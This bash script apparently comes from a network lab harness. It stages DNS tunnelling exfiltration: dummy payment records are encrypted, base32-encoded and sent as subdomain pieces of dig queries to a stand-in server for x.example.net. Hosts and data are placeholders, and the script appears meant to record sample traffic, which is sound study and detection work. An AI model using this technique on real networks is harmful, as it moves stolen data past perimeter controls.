#!/usr/bin/env bash
# A file leaves in the names of DNS queries, a piece of it in each: dig asks, dnsmasq answers for the whole domain.
. "$(dirname "$0")/../../lib.sh"
needs dnsmasq-base bind9-dnsutils openssl

host desk 10.20.3.14
host far 203.0.113.153
dns_server far 53 --address=/x.example.net/203.0.113.7

record
seq -f 'client %g, 12.90, paid' 1 110 | openssl enc -aes-256-ctr -pass pass:demo -nosalt -pbkdf2 | base32 -w 56 | tr -d = | tr A-Z a-z >"$work/pieces"
mapfile -t pieces <"$work/pieces"
number=0
for piece in "${pieces[@]}"; do
  quiet desk dig @203.0.113.153 "$piece.$number.x.example.net"
  number=$((number + 1))
done
for piece in "${pieces[@]:0:10}"; do quiet desk dig @203.0.113.153 "${piece:0:28}.${piece:28}.$number.x.example.net" TXT; done
finish dnsmasq-base bind9-dnsutils openssl
